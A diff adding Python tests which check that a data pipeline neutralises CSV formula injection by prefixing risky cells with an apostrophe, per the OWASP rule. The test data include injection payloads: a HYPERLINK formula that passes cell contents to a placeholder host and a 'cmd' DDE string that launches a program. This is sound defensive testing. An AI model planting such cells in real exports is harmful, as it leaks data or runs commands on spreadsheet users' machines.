@@ -396,3 +396,31 @@ def test_the_interrupt_message_tells_the_truth_under_force(tmp_path):
     forced = str(RunInterrupted(3, tmp_path / "cache", tmp_path, forced=True))
     assert "Run the same command again to finish" in plain
     assert "without --force" in forced and "with --force every record is screened again" in forced
+
+
+@pytest.mark.parametrize("cell, written", [
+    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"), ("-2+3+cmd", "'-2+3+cmd"),
+    ("\tlead", "'\tlead"), ("-0.25", "-0.25"), ("+1e3", "+1e3"), ("plain", "plain"), (-0.25, -0.25), ("", ""),
+])
+def test_cells_a_spreadsheet_would_execute_are_written_inert(cell, written):
+    """The OWASP rule for CSV injection: text that starts like a formula gets a leading apostrophe; numbers
+    (negative ones too, as text or not) are kept."""
+    from pipeline.store.atomic import inert
+
+    assert inert(cell) == written
+
+
+def test_an_inventory_name_written_to_assets_csv_cannot_run_in_a_spreadsheet(make_records, tmp_path):
+    import csv
+
+    root = make_records("peer-at2/RSN77_SFERN_PUL164.AT2")
+    inv = tmp_path / "b.csv"
+    inv.write_text('id,name,height_m,width_m\nB1,"=HYPERLINK(""http://x.example"",""open"")",2.0,0.5\n'
+                   "B2,+cmd|' /C calc'!A0,1.0,0.4\n")
+    out = tmp_path / "out"
+    assert main(["--samples", "0", "--records", str(root), "--blocks", str(inv), "--out", str(out), "-q"]) == 0
+    with open(out / "assets.csv", newline="", encoding="utf-8") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert '\'=HYPERLINK("http://x.example","open")' in cells and "'+cmd|' /C calc'!A0" in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
